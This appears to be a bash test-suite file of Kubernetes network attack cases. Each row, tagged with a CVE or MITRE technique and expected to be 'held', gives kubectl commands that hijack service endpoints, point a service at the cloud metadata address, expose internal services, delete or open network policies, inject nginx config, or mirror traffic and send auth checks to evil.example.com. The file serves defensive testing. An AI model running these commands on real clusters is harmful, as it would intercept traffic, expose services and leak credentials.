# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash disable=SC2016,SC2154
# Traffic. See suite.sh for the columns.

row network/load-balancer-ingress-ip-patched-services held 'CVE-2020-8554' <<'DO'
k patch service web --type=merge -p '{"spec":{"type":"LoadBalancer"}}' >/dev/null
k patch service web --subresource=status --type=merge -p '{"status":{"loadBalancer":{"ingress":[{"ip":"203.0.113.9"}]}}}'
DO

row network/internal-service-made-public-load-balancer held 'MITRE T1133; MS-TA9005' <<'DO'
k patch service web --type=merge -p '{"spec":{"type":"LoadBalancer"}}'
DO

row network/endpoints-written-hand-for-service held 'CVE-2021-25740' <<'DO'
echo '{"apiVersion":"v1","kind":"Endpoints","metadata":{"name":"web"},"subsets":[{"addresses":[{"ip":"10.9.9.9"}],"ports":[{"port":80}]}]}' | k create -f -
DO

row network/endpointslice-takes-traffic-service held 'CVE-2021-25740; MITRE T1557' <<'DO'
echo '{"apiVersion":"'$SLICE'","kind":"EndpointSlice","metadata":{"name":"web-x","labels":{"kubernetes.io/service-name":"web"}},"addressType":"IPv4","endpoints":[{"addresses":["10.9.9.9"]}],"ports":[{"port":80}]}' | k create -f -
DO

row network/networkpolicy-deleted held 'MITRE T1562' <<'DO'
echo '{"apiVersion":"networking.k8s.io/v1","kind":"NetworkPolicy","metadata":{"name":"deny"},"spec":{"podSelector":{},"policyTypes":["Ingress"]}}' | adm create -f - >/dev/null
k delete networkpolicy deny
DO

row network/pod-labels-changed-so-policy-or held 'Redguard matrix' <<'DO'
k label pod p1 app-
DO

row network/ingress-takes-over-host-another-namespace held 'MITRE T1557' <<'DO'
echo '{"apiVersion":"networking.k8s.io/v1","kind":"Ingress","metadata":{"name":"all"},"spec":{"defaultBackend":{"service":{"name":"web","port":{"number":80}}}}}' | k create -f -
DO

row network/servicecidr-added held 'KEP-1880' 1.33 <<'DO'
echo '{"apiVersion":"networking.k8s.io/v1","kind":"ServiceCIDR","metadata":{"name":"'$NS'"},"spec":{"cidrs":["10.'$((10#${NS: -3}))'.0.0/24"]}}' | k create -f -
DO

row network/service-with-external-addresses held 'CVE-2020-8554' <<'DO'
obj v1 Service ext '"spec":{"externalIPs":["1.1.1.1"],"selector":{"app":"x"},"ports":[{"port":443}]}' | k create -f -
DO

row network/external-addresses-for-an-existing-service held 'CVE-2020-8554' <<'DO'
k patch service svc --type=merge -p '{"spec":{"externalIPs":["1.1.1.1"]}}'
DO

row network/name-of-the-metadata-service held 'MITRE T1552.005' <<'DO'
obj v1 Service meta '"spec":{"type":"ExternalName","externalName":"169.254.169.254"}' | k create -f -
DO

row network/existing-service-becomes-a-name-outside held 'MITRE T1557' <<'DO'
k patch service svc --type=merge -p '{"spec":{"type":"ExternalName","externalName":"evil.example.com","clusterIP":null,"clusterIPs":null}}'
DO

row network/port-on-every-node held 'MS-TA9005' <<'DO'
k patch service svc --type=merge -p '{"spec":{"type":"NodePort"}}'
DO

row network/service-aimed-at-other-pods held 'MITRE T1557' <<'DO'
k patch service svc --type=merge -p '{"spec":{"selector":{"app":"evil"}}}'
DO

row network/service-aimed-at-another-port held 'MITRE T1557' <<'DO'
k patch service svc --type=json -p '[{"op":"replace","path":"/spec/ports/0/targetPort","value":6666}]'
DO

row network/service-without-pods held 'CVE-2021-25740' <<'DO'
obj v1 Service hand '"spec":{"ports":[{"port":80}]}' | k create -f -
DO

row network/public-by-an-annotation held 'cloud load balancers' <<'DO'
k annotate service svc service.beta.kubernetes.io/aws-load-balancer-internal=false
DO

row network/endpoints-of-the-api-server held 'MITRE T1557' <<'DO'
obj v1 Endpoints "kubernetes-$NS" '"subsets":[{"addresses":[{"ip":"10.9.9.9"}],"ports":[{"port":443}]}]' | k -n default create -f -
DO

row network/endpoint-slice-of-the-api-server held 'MITRE T1557' <<'DO'
obj "$SLICE" EndpointSlice "k-$NS" '"addressType":"IPv4","endpoints":[{"addresses":["10.9.9.9"]}],"ports":[{"port":443}]' | jq -c '.metadata.labels["kubernetes.io/service-name"] = "kubernetes"' | k -n default create -f -
DO

row network/policy-that-opens-everything held 'MITRE T1562.007' <<'DO'
obj networking.k8s.io/v1 NetworkPolicy open '"spec":{"podSelector":{},"ingress":[{}]}' | k create -f -
DO

row network/policy-that-lets-the-world-in held 'MITRE T1562.007' <<'DO'
obj networking.k8s.io/v1 NetworkPolicy open '"spec":{"podSelector":{"matchLabels":{"app":"web"}},"ingress":[{"from":[{"ipBlock":{"cidr":"0.0.0.0/0"}}]}]}' | k create -f -
DO

row network/policy-that-lets-all-namespaces-in held 'MITRE T1562.007' <<'DO'
obj networking.k8s.io/v1 NetworkPolicy open '"spec":{"podSelector":{"matchLabels":{"app":"web"}},"ingress":[{"from":[{"namespaceSelector":{}}]}]}' | k create -f -
DO

row network/policy-that-cuts-pods-off held 'MITRE T1489' <<'DO'
obj networking.k8s.io/v1 NetworkPolicy cut '"spec":{"podSelector":{"matchLabels":{"app":"web"}},"policyTypes":["Ingress","Egress"]}' | k create -f -
DO

row network/existing-policy-opened held 'MITRE T1562.007' <<'DO'
k patch networkpolicy netpol --type=merge -p '{"spec":{"ingress":[{}]}}'
DO

row network/ingress-for-every-host held 'MITRE T1557' <<'DO'
k create ingress all --rule=/*=svc:80
DO

row network/ingress-by-a-wildcard held 'MITRE T1557' <<'DO'
k create ingress all '--rule=*.example.com/=svc:80'
DO

row network/ingress-of-others-goes-elsewhere held 'MITRE T1557' <<'DO'
k patch ingress ing --type=json -p '[{"op":"replace","path":"/spec/rules/0/host","value":"b.example.com"}]'
DO

row network/ingress-with-a-snippet-in-its-path held 'CVE-2021-25745' <<'DO'
k patch ingress ing --type=json -p '[{"op":"replace","path":"/spec/rules/0/http/paths/0/path","value":"/x { alias /; }"}]'
DO

row network/ingress-that-mirrors held 'ingress-nginx annotations; CVE-2025-1974' <<'DO'
k annotate ingress ing nginx.ingress.kubernetes.io/mirror-target=https://evil.example.com
DO

row network/ingress-asks-another-for-permission held 'CVE-2025-24514' <<'DO'
k annotate ingress ing nginx.ingress.kubernetes.io/auth-url=http://evil.example.com/x
DO

row network/ingress-class held 'IngressClass' <<'DO'
obj networking.k8s.io/v1 IngressClass "$NS" '"spec":{"controller":"evil.example.com/x"}' | k create -f -
DO

row network/status-of-an-ingress held 'API reference */status' <<'DO'
api PATCH "/apis/networking.k8s.io/v1/namespaces/$NS/ingresses/ing/status" application/merge-patch+json '{"status":{"loadBalancer":{"ingress":[{"ip":"203.0.113.9"}]}}}'
DO

row network/service-for-the-world-in-its-own-namespace held 'MS-TA9005' own <<'DO'
obj v1 Service ext '"spec":{"type":"LoadBalancer","selector":{"app":"x"},"ports":[{"port":443}]}' | k create -f -
DO

row network/networkpolicy-leaves-pods-nobody held 'MITRE T1498' <<'DO'
obj networking.k8s.io/v1 NetworkPolicy only '"spec":{"podSelector":{"matchLabels":{"app":"web"}},"ingress":[{"from":[{"podSelector":{"matchLabels":{"app":"nobody"}}}]}]}' | k create -f -
DO

row network/service-sends-to-pods-not-ready held 'own' <<'DO'
k patch service web --type=merge -p '{"spec":{"publishNotReadyAddresses":true}}'
DO

row network/pod-says-it-is-one-of-a-statefulset held 'own' <<'DO'
pod db-x | jq -c '.metadata.labels = {"statefulset.kubernetes.io/pod-name":"db-0"}' | k create -f -
DO

row network/ingress-loses-its-authentication held 'own' <<'DO'
adm annotate ingress ing nginx.ingress.kubernetes.io/auth-url=https://sso.example.com >/dev/null
k annotate ingress ing nginx.ingress.kubernetes.io/auth-url-
DO

row network/ingress-of-another-class held 'own' <<'DO'
k annotate ingress ing kubernetes.io/ingress.class=public
DO

row network/public-by-an-annotation-that-goes held 'cloud load balancers' <<'DO'
adm annotate service svc service.beta.kubernetes.io/aws-load-balancer-internal=true >/dev/null
k annotate service svc service.beta.kubernetes.io/aws-load-balancer-internal-
DO

row network/policy-for-all-pods-that-lack-a-label held 'own' <<'DO'
obj networking.k8s.io/v1 NetworkPolicy all '"spec":{"podSelector":{"matchExpressions":[{"key":"nope","operator":"DoesNotExist"}]},"ingress":[{"from":[{"podSelector":{"matchExpressions":[{"key":"nope","operator":"DoesNotExist"}]}}]}]}' | k create -f -
DO

row network/service-named-as-the-api-server held 'own' <<'DO'
obj v1 Service kubernetes '"spec":{"selector":{"app":"web"},"ports":[{"port":443}]}' | k create -f -
DO

# The cache hears of the other ingress within a second.
row network/ingress-adds-a-path-to-a-host-of-another-namespace held 'MITRE T1557' <<'DO'
adm -n default create ingress "$NS" --rule="$NS.example.com/=web:80" >/dev/null
sleep 1
k create ingress mine --rule="$NS.example.com/login=svc:80"
DO

row network/ingress-takes-a-host-from-the-agents-own-namespace held 'MITRE T1557' own <<'DO'
adm -n default create ingress "$NS" --rule="$NS.example.com/=web:80" >/dev/null
k create ingress mine --rule="x.$NS.example.com/=svc:80" >/dev/null
sleep 1
k patch ingress mine --type=json -p '[{"op":"replace","path":"/spec/rules/0/host","value":"'$NS'.example.com"}]'
DO
